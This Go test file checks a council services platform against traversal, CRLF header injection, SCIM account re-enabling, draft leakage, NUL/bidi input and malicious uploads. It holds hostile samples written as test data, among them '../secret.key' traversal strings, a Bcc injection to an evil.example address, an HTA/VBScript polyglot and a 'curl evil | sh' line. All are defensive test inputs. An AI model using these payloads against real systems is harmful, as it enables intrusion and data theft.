package security

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/guildhall-platform/guildhall/internal/notify/notifytest"
	"github.com/guildhall-platform/guildhall/internal/web/webtest"
	"github.com/guildhall-platform/guildhall/test/internal/server"
)

// apiDo sends one request, with a bearer token unless it is empty, and
// returns the status, body and headers.
func apiDo(t *testing.T, method, url, bearer, ctype string, body io.Reader) (int, string, http.Header) {
	t.Helper()
	req, err := http.NewRequest(method, url, body)
	if err != nil {
		t.Fatal(err)
	}
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, url, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// countCases counts the cases in a serve's SQLite database.
func countCases(t *testing.T, dir string) int {
	t.Helper()
	return sqliteCount(t, dir, `SELECT count(*) FROM cases`)
}

// sqliteCount runs a count query on a serve's SQLite database, read-only.
func sqliteCount(t *testing.T, dir, query string, args ...any) int {
	t.Helper()
	var n int
	if err := server.OpenDatabase(t, dir, "").QueryRow(query, args...).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

const pothole = `{"service_id":"report-a-pothole","answers":{
	"location":{"location":{"description":%q}},"surface":{"text":"road"},"dangerous":{"text":"no"},
	"full_name":{"text":%q},"email":{"text":"jane@example.org"}}}`

// TestOversizedAndMalformedBodies: bodies over the limit are 413, broken
// JSON and forms are 400, each with a message saying what is wrong, and
// nothing is stored.
func TestOversizedAndMalformedBodies(t *testing.T) {
	dir := t.TempDir()
	srv, token := apiServe(t, server.StoreFlags(dir, ""), "officer@highways")
	huge := fmt.Sprintf(pothole, strings.Repeat("x", 2<<20), "Jane")
	for _, tc := range []struct {
		name, ctype, body string
		status            int
		says              string
	}{
		{"2 MB of JSON", "application/json", huge, http.StatusRequestEntityTooLarge, "too large"},
		{"truncated JSON", "application/json", `{"service_id":"report-a-pothole","answers":{`, http.StatusBadRequest, ""},
		{"not JSON at all", "application/json", "\x00\xff<xml/>", http.StatusBadRequest, ""},
		{"unknown field", "application/json", `{"service_id":"report-a-pothole","answers":{},"admin":true}`, http.StatusBadRequest, "admin"},
		{"form-encoded", "application/x-www-form-urlencoded", "service_id=report-a-pothole", http.StatusUnsupportedMediaType, ""},
	} {
		status, body, _ := apiDo(t, http.MethodPost, srv.URL+"/api/v1/cases", token, tc.ctype, strings.NewReader(tc.body))
		if status != tc.status || !strings.Contains(strings.ToLower(body), tc.says) || !strings.Contains(body, `"detail"`) && !strings.Contains(body, `"title"`) {
			t.Errorf("%s: %d %.300s; want %d with a message containing %q", tc.name, status, body, tc.status, tc.says)
		}
	}
	// The front door's forms: an oversized urlencoded post is 413 too.
	req, _ := http.NewRequest(http.MethodPost, srv.URL+"/services/report-a-pothole/questions/location", strings.NewReader("x="+strings.Repeat("y", 2<<20)))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != http.StatusRequestEntityTooLarge && resp.StatusCode != http.StatusForbidden {
		t.Errorf("oversized form post: %v %v", err, resp)
	}
	if n := countCases(t, dir); n != 0 {
		t.Errorf("%d cases stored from refused bodies", n)
	}
}

// TestPathTraversalInAttachments: a ../ in an uploaded file's name is
// reduced to its base name, and a ../ in an attachment key never reaches
// the file system (the platform's secret key is the prize).
func TestPathTraversalInAttachments(t *testing.T) {
	dir := t.TempDir()
	srv, token := apiServe(t, server.StoreFlags(dir, ""), "officer@highways")
	base := srv.URL + "/api/v1/cases/" + submitPothole(t, srv.URL, token) + "/attachments"
	png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), bytes.Repeat([]byte{0}, 40)...)
	for _, name := range []string{"..%2F..%2F..%2Fsecret.key", "....//....//x.png", "..%5C..%5Cx.png"} {
		status, body, _ := apiDo(t, http.MethodPost, base+"?name="+name, token, "image/png", bytes.NewReader(png))
		if status != http.StatusCreated || strings.Contains(body, "..") || strings.Contains(body, `\\`) {
			t.Errorf("upload named %s: %d %s", name, status, body)
		}
	}
	secret, err := os.ReadFile(filepath.Join(dir, "secret.key"))
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"..%2Fsecret.key", "..%2F..%2Fsecret.key", "%2E%2E%2Fsecret.key", "..%5Csecret.key"} {
		status, body, _ := apiDo(t, http.MethodGet, base+"/"+key, token, "", nil)
		if status == http.StatusOK || bytes.Contains([]byte(body), secret) {
			t.Errorf("GET attachment %s: %d (served something)", key, status)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "x.png")); err == nil {
		t.Error("an upload was written outside the documents folder")
	}
}

// TestNoHeaderInjectionInNotifications submits a case whose name carries
// CRLF and header lines, then reads what reached a real SMTP server: the
// message must have one recipient and no injected header.
func TestNoHeaderInjectionInNotifications(t *testing.T) {
	smtp := notifytest.NewSMTPServer(t, notifytest.SMTPOptions{})
	dir := t.TempDir()
	srv, token := apiServe(t, server.StoreFlags(dir, ""), "officer@highways",
		"--smtp-addr", smtp.Addr, "--smtp-from", "council@example.gov.uk", "--team-mailbox", "{team}@example.gov.uk")
	name := "Jane\r\nBcc: victim@evil.example\r\nSubject: injected"
	status, body, _ := apiDo(t, http.MethodPost, srv.URL+"/api/v1/cases", token, "application/json",
		strings.NewReader(fmt.Sprintf(pothole, "Outside 1\r\nX-Injected: yes", name)))
	if status != http.StatusCreated && status != http.StatusUnprocessableEntity {
		t.Fatalf("submit with CRLF: %d %s", status, body)
	}
	if status == http.StatusUnprocessableEntity {
		t.Logf("the API refused CRLF in the answers outright: %s", body)
		return
	}
	deadline := time.Now().Add(30 * time.Second)
	for len(smtp.Messages()) == 0 && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(time.Second) // a team notification queued with it may follow
	msgs := smtp.Messages()
	if len(msgs) == 0 {
		t.Fatalf("no email arrived\n%s", srv.Log())
	}
	for _, m := range msgs {
		head, _, _ := strings.Cut(string(m.Data), "\n\n")
		for _, to := range m.To {
			if strings.Contains(to, "evil") {
				t.Errorf("injected recipient %q", to)
			}
		}
		for _, line := range strings.Split(head, "\n") {
			l := strings.ToLower(line)
			if strings.HasPrefix(l, "bcc:") || strings.HasPrefix(l, "x-injected:") || strings.Contains(l, "subject: injected") {
				t.Errorf("injected header line %q in\n%s", line, head)
			}
		}
	}
	t.Logf("%d emails checked", len(msgs))
}

// TestOpen311PublicGetHidesAddress (penetration test: Open311 free-text address):
// a pothole posted with a precise free-text address is listed to the public
// with coordinates rounded to the definition's published precision and no
// address or UPRN; the client whose key may view the case still sees them.
func TestOpen311PublicGetHidesAddress(t *testing.T) {
	srv, token := apiServe(t, server.StoreFlags(t.TempDir(), ""), "officer@highways")
	form := url.Values{
		"api_key": {token}, "jurisdiction_id": {"guildhall"}, "service_code": {"POTHOLE"},
		"lat": {"52.20531"}, "long": {"0.12181"}, "attribute[uprn]": {"100090011234"},
		"address_string": {"14 Mill Road, where Jane Doe lives"},
		"description":    {"Deep hole"},
		"first_name":     {"Jane"}, "last_name": {"Doe"}, "email": {"jane@example.org"},
		"attribute[surface]":   {"road"},
		"attribute[dangerous]": {"no"},
	}
	if status, b, _ := apiDo(t, http.MethodPost, srv.URL+"/open311/v2/requests.json", "", "application/x-www-form-urlencoded", strings.NewReader(form.Encode())); status != http.StatusOK {
		t.Fatalf("post: %d %s", status, b)
	}
	for _, q := range []string{"requests.json", "requests.xml"} {
		status, body, _ := apiDo(t, http.MethodGet, srv.URL+"/open311/v2/"+q, "", "", nil)
		if status != http.StatusOK || !strings.Contains(body, "52.205") {
			t.Fatalf("public %s: %d %s", q, status, body)
		}
		for _, leak := range []string{"Mill Road", "Jane", "100090011234", "52.2053", "0.1218"} {
			if strings.Contains(body, leak) {
				t.Errorf("public GET %s shows %q: %s", q, leak, body)
			}
		}
	}
	status, body, _ := apiDo(t, http.MethodGet, srv.URL+"/open311/v2/requests.json?api_key="+token, "", "", nil)
	if status != http.StatusOK || !strings.Contains(body, "14 Mill Road") {
		t.Errorf("the client that may view the case: %d %s", status, body)
	}
}

// TestSCIMCannotReenableAdministratorsDisable (penetration test: SCIM active:true):
// an account an administrator disabled on the admin pages stays disabled
// when the identity provider sends active:true (PATCH or PUT), and the
// person cannot sign in; an account the provider disabled, it may enable.
func TestSCIMCannotReenableAdministratorsDisable(t *testing.T) {
	const scimToken = "scim-token-for-the-security-suite"
	s := startSite(t, "--scim-token", scimToken)
	admin := signInAdmin(t, s)
	scim := func(method, path, body string) (int, map[string]any) {
		t.Helper()
		req, _ := http.NewRequest(method, s.srv.URL+"/scim/v2"+path, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+scimToken)
		req.Header.Set("Content-Type", "application/scim+json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var out map[string]any
		_ = json.NewDecoder(resp.Body).Decode(&out)
		return resp.StatusCode, out
	}
	user := func(email string) string {
		status, u := scim("POST", "/Users", `{"schemas":["urn:ietf:params:scim:schemas:core:2.0:User"],"userName":"`+email+`","active":true}`)
		if status != http.StatusCreated {
			t.Fatalf("SCIM create: %d %v", status, u)
		}
		return u["id"].(string)
	}
	patch := func(id string, active bool) (int, map[string]any) {
		return scim("PATCH", "/Users/"+id, fmt.Sprintf(`{"schemas":["urn:ietf:params:scim:api:messages:2.0:PatchOp"],"Operations":[{"op":"replace","path":"active","value":%v}]}`, active))
	}

	suspended := user("suspended@council.gov.uk")
	res, body := admin.PostForm("/admin/people/"+suspended+"/disable", url.Values{})
	if res.StatusCode != http.StatusSeeOther && res.StatusCode != http.StatusOK {
		t.Fatalf("administrator's disable: %d %.500s", res.StatusCode, body)
	}
	if _, u := scim("GET", "/Users/"+suspended, ""); u["active"] != false {
		t.Fatalf("after the administrator's disable SCIM says active=%v", u["active"])
	}
	if status, u := patch(suspended, true); status != http.StatusOK || u["active"] != false {
		t.Errorf("PATCH active:true: %d active=%v, want 200 active=false", status, u["active"])
	}
	status, u := scim("PUT", "/Users/"+suspended, `{"schemas":["urn:ietf:params:scim:schemas:core:2.0:User"],"userName":"suspended@council.gov.uk","active":true}`)
	if status != http.StatusOK || u["active"] != false {
		t.Errorf("PUT active:true: %d active=%v, want 200 active=false", status, u["active"])
	}
	if _, u := scim("GET", "/Users/"+suspended, ""); u["active"] != false {
		t.Errorf("the identity provider re-enabled an account an administrator disabled")
	}
	if _, page := admin.Get("/admin/people/" + suspended); !strings.Contains(page, "An administrator disabled this account") {
		t.Errorf("the person page does not say an administrator disabled the account")
	}

	leaver := user("leaver@council.gov.uk")
	if _, u := patch(leaver, false); u["active"] != false {
		t.Fatalf("SCIM disable: %v", u)
	}
	if status, u := patch(leaver, true); status != http.StatusOK || u["active"] != true {
		t.Errorf("the provider re-enabling its own disable: %d %v", status, u["active"])
	}
}

// TestDraftsDoNotSurviveSignOut (penetration test: drafts after sign-out): on one
// browser, an officer's assisted-digital answers never reach the resident
// cookie, and after sign-out neither the officer's answers nor a resident's
// earlier ones are shown to whoever uses the browser next.
func TestDraftsDoNotSurviveSignOut(t *testing.T) {
	s := startSite(t)
	c := signInAdmin(t, s)
	base, _ := url.Parse(s.srv.URL)
	frontdoorCookie := func() string {
		for _, ck := range c.HTTP.Jar.Cookies(base) {
			if strings.Contains(ck.Name, "frontdoor") {
				return ck.Value
			}
		}
		return ""
	}
	const where = "/services/report-a-pothole/questions/where"
	answer := func(text string) {
		t.Helper()
		c.Get(where)
		if res, body := c.PostForm(where, url.Values{"location-description": {text}}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("answering %q: %d %.500s", text, res.StatusCode, body)
		}
	}
	signOut := func() {
		t.Helper()
		c.Get("/sign-out")
		if res, body := c.PostForm("/sign-out", url.Values{}); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("sign-out: %d %.300s", res.StatusCode, body)
		}
	}

	answer("Assisted call: outside 14 Mill Road, Jane Doe's house")
	if frontdoorCookie() != "" {
		t.Error("the officer's assisted-digital answers went into the resident cookie")
	}
	if _, body := c.Get(where); !strings.Contains(body, "14 Mill Road") {
		t.Fatalf("the officer's own draft is not kept while signed in")
	}
	signOut()
	if _, body := c.Get(where); strings.Contains(body, "14 Mill Road") {
		t.Error("after sign-out the next person sees the officer's answers")
	}

	answer("Resident: outside 3 Hope Street")
	if frontdoorCookie() == "" {
		t.Fatal("a resident's answers set no front-door cookie")
	}
	c = signInAdminAgain(t, s, c)
	signOut()
	if frontdoorCookie() != "" {
		t.Error("sign-out did not clear the front-door cookie")
	}
	if _, body := c.Get(where); strings.Contains(body, "3 Hope Street") {
		t.Error("after sign-out the next person sees the earlier resident's answers")
	}
}

// TestNULBidiAndFractionsRefused (penetration test: NUL gives 500; bidi controls;
// "2.5 adults"): on SQLite and on PostgreSQL, which cannot store a NUL, a
// NUL in an answer, a reference, a sign-in email or an Open311 field is
// refused with a message (422/400) or finds nothing (404): never a 500. A
// bidirectional override in a name is refused, and so is 2.5 adults.
func TestNULBidiAndFractionsRefused(t *testing.T) {
	server.EachDatabase(t, func(t *testing.T, url string) {
		srv, token := apiServe(t, server.StoreFlags(t.TempDir(), url), "officer@highways,officer@council-tax")
		refusedChars(t, srv, token)
		if strings.Contains(srv.Log(), "internal error") {
			t.Errorf("the server logged an internal error:\n%s", srv.Log())
		}
	})
}

func refusedChars(t *testing.T, srv *server.Server, token string) {
	const control, direction = "must not include hidden control characters", "must not include characters that change the direction of text"
	for _, tc := range []struct {
		name, place, name2 string
		says               string
	}{
		{"NUL in a name", "Mill Road", "Jane\x00Doe", control},
		{"NUL in a location", "Mill\x00Road", "Jane Doe", control},
		{"bidi override in a name", "Mill Road", "Jane \u202EeoD", direction},
		{"bidi isolate in a name", "Mill Road", "Jane \u2067Doe\u2069", direction},
	} {
		status, body, _ := apiDo(t, http.MethodPost, srv.URL+"/api/v1/cases", token, "application/json",
			strings.NewReader(fmt.Sprintf(strings.ReplaceAll(pothole, "%q", "%s"), jsonString(tc.place), jsonString(tc.name2))))
		if status != http.StatusUnprocessableEntity || !strings.Contains(body, tc.says) || !strings.Contains(body, `"errors"`) {
			t.Errorf("API, %s: %d %.400s; want 422 with field errors saying %q", tc.name, status, body, tc.says)
		}
	}
	for _, path := range []string{"/api/v1/cases/ABCD%00EFGH", "/api/v1/cases?q=hole%00", "/api/v1/cases/ABCD-EFGH%00/attachments"} {
		if status, body, _ := apiDo(t, http.MethodGet, srv.URL+path, token, "", nil); status >= 500 {
			t.Errorf("API GET %s: %d %.300s", path, status, body)
		}
	}

	c := webtest.NewClient(t, srv.URL)
	const where = "/services/report-a-pothole/questions/where"
	c.Get(where)
	res, body := c.PostForm(where, url.Values{"location-description": {"Outside\x00 12 Mill Road"}})
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "Where is the pothole "+control) && !strings.Contains(body, control) {
		t.Errorf("front door, NUL in an answer: %d %s", res.StatusCode, errorSummaryOf(body))
	}
	const newHome = "/services/moving-home/questions/new_home"
	c.Get(newHome)
	res, body = c.PostForm(newHome, url.Values{"staying_in_area": {"yes"}, "adults": {"2.5"}, "tenure": {"own"}})
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "must be a whole number") {
		t.Errorf("front door, 2.5 adults: %d %s", res.StatusCode, errorSummaryOf(body))
	}
	c.Get("/track")
	res, body = c.PostForm("/track", url.Values{"ref": {"ABCD\x00EFGH"}, "contact": {"jane@example.org"}})
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "Reference number "+control) {
		t.Errorf("track, NUL in a reference: %d %s", res.StatusCode, errorSummaryOf(body))
	}
	c.Get("/sign-in")
	if res, body := c.PostForm("/sign-in", url.Values{"email": {"jane\x00@council.gov.uk"}, "password": {"whatever-it-is"}}); res.StatusCode >= 500 {
		t.Errorf("sign-in, NUL in an email: %d %.300s", res.StatusCode, body)
	}

	form := url.Values{
		"api_key": {token}, "jurisdiction_id": {"guildhall"}, "service_code": {"POTHOLE"},
		"lat": {"52.2053"}, "long": {"0.1218"}, "description": {"Deep\x00 hole"},
		"first_name": {"Jane"}, "last_name": {"Doe"}, "email": {"jane@example.org"},
		"attribute[surface]": {"road"}, "attribute[dangerous]": {"no"},
	}
	resp, err := http.PostForm(srv.URL+"/open311/v2/requests.json", form)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(b), control) {
		t.Errorf("Open311, NUL in the description: %d %s", resp.StatusCode, b)
	}
	if status, body, _ := apiDo(t, http.MethodGet, srv.URL+"/open311/v2/requests/ABCD%00EFGH.json", "", "", nil); status >= 500 {
		t.Errorf("Open311 GET with a NUL: %d %s", status, body)
	}
}

// errorSummaryOf is the GOV.UK error summary's text, for failure messages.
func errorSummaryOf(body string) string {
	i := strings.Index(body, "govuk-error-summary")
	if i < 0 {
		return "(no error summary)"
	}
	return body[i:min(len(body), i+600)]
}

// jsonString is s as a JSON string literal (a NUL as \u0000).
func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestUploadsRefuseProgramsAndScripts (penetration test: uploads keep the client's
// name; the API takes .bat and .js): the API and the front door refuse a
// JPEG/HTA polyglot (as pothole.jpg.hta and as pothole.jpg), .bat, .js and
// script content; what they take is stored under a generated name with the
// detected type's extension and downloads as an attachment with the
// detected type and nosniff.
func TestUploadsRefuseProgramsAndScripts(t *testing.T) {
	dir := t.TempDir()
	srv, token := apiServe(t, server.StoreFlags(dir, ""), "officer@highways")
	base := srv.URL + "/api/v1/cases/" + submitPothole(t, srv.URL, token) + "/attachments"
	jpeg := jpegOf(50_000)
	polyglot := append(append([]byte{}, jpeg...), []byte(`<HTA:APPLICATION ID="p"><SCRIPT language="VBScript">CreateObject("WScript.Shell").Run "calc"</SCRIPT>`)...)
	for _, tc := range []struct {
		name string
		body []byte
	}{
		{"pothole.jpg.hta", polyglot}, {"pothole.jpg", polyglot}, {"run.bat", []byte("@echo off\r\ncalc\r\n")},
		{"app.js", []byte("new ActiveXObject('WScript.Shell').Run('calc')")}, {"x.png", append([]byte("MZ\x90\x00"), jpeg...)},
		{"readme.txt", []byte("#!/bin/sh\ncurl evil | sh\n")},
	} {
		status, body, _ := apiDo(t, http.MethodPost, base+"?name="+url.QueryEscape(tc.name), token, "application/octet-stream", bytes.NewReader(tc.body))
		if status != http.StatusUnsupportedMediaType {
			t.Errorf("API upload %q: %d %.300s, want 415", tc.name, status, body)
		}
	}
	status, body, _ := apiDo(t, http.MethodPost, base+"?name=Mill.Road.photo.png", token, "image/png", bytes.NewReader(jpeg))
	var a struct{ Name, URL string }
	if err := json.Unmarshal([]byte(body), &a); status != http.StatusCreated || err != nil || a.Name != "Mill-Road-photo.jpg" {
		t.Fatalf("API upload of a JPEG: %d %s, want 201 named Mill-Road-photo.jpg", status, body)
	}
	status, _, h := apiDo(t, http.MethodGet, srv.URL+a.URL, token, "", nil)
	if status != http.StatusOK || h.Get("Content-Type") != "image/jpeg" || h.Get("X-Content-Type-Options") != "nosniff" ||
		h.Get("Content-Disposition") != `attachment; filename="Mill-Road-photo.jpg"; filename*=UTF-8''Mill-Road-photo.jpg` {
		t.Errorf("download: %d %v", status, h)
	}

	for _, name := range []string{"pothole.jpg.hta", "pothole.jpg"} {
		res, body := uploadPhoto(t, srv.URL, name, polyglot)
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "must not be a program or a script") {
			t.Errorf("front door upload %q: %d %s", name, res.StatusCode, errorSummaryOf(body))
		}
	}
	// Nothing refused reached the documents folder: only the one JPEG.
	n := 0
	_ = filepath.WalkDir(filepath.Join(dir, "documents"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			n++
		}
		return nil
	})
	if n != 1 {
		t.Errorf("%d files in the documents folder, want the one JPEG", n)
	}
}
